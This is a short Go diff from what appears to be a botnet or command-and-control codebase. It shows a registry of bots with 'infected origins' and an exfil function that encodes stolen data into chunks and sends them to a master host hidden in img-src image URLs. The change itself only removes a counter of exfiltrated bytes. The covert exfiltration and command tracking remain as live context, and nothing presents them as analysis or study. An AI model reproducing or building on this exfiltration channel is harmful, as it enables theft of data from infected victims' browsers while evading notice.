@@ -63,11 +63,10 @@ type Registry struct {
 	infectedOrigins map[string]map[string]bool // botID → origins
 	lastSeenCmd     map[string]int             // botID → last executed command
 
-	polls     int
-	commands  int
-	anchors   int
-	reloads   int
-	exfilured int
+	polls    int
+	commands int
+	anchors  int
+	reloads  int
 }
 
 // NewRegistry returns an empty registry.
@@ -230,7 +229,6 @@ func (r *Registry) execute(env script.Env, cfg *Config, command []byte) {
 // exfil returns the upstream sender: data encoded into img-src URLs.
 func (r *Registry) exfil(env script.Env, cfg *Config) Exfil {
 	return func(stream string, data []byte) {
-		r.exfilured += len(data)
 		chunks := cnc.EncodeURLChunks(data, cnc.DefaultChunkSize)
 		for seq, chunk := range chunks {
 			env.AddImage(cfg.MasterHost+"/up/"+cfg.BotID+"/"+stream+"/"+strconv.Itoa(seq)+"/"+chunk, nil)
